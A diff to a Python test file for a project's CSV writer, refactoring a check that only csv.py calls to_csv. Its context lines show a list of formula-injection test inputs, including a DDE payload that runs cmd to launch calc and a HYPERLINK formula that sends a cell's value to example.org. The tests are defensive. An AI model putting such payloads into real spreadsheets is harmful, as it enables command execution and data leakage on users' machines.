@@ -7,8 +7,8 @@ import io
 import pandas as pd
 import pytest
 
-from core import config
 from core.drawing.csv import csv_text
+from tests.sources import files_of, nodes_of
 
 FORMULAS = [
     "=1+1", '=HYPERLINK("http://example.org?"&A1)', "+1+cmd|' /C calc'!A0", "-1+2", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
@@ -42,11 +42,10 @@ def test_columns_of_one_name_are_each_written():
 
 
 def test_no_other_place_writes_csv():
-    files = [*(config.PROJECT / "core").rglob("*.py"), *(config.PROJECT / "pages").rglob("*.py")]
     calls = [
         file.name
-        for file in files
-        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8")))
+        for file in files_of("core", "pages")
+        for node in nodes_of(file)
         if isinstance(node, ast.Attribute) and node.attr == "to_csv"
     ]
     assert calls == ["csv.py"]
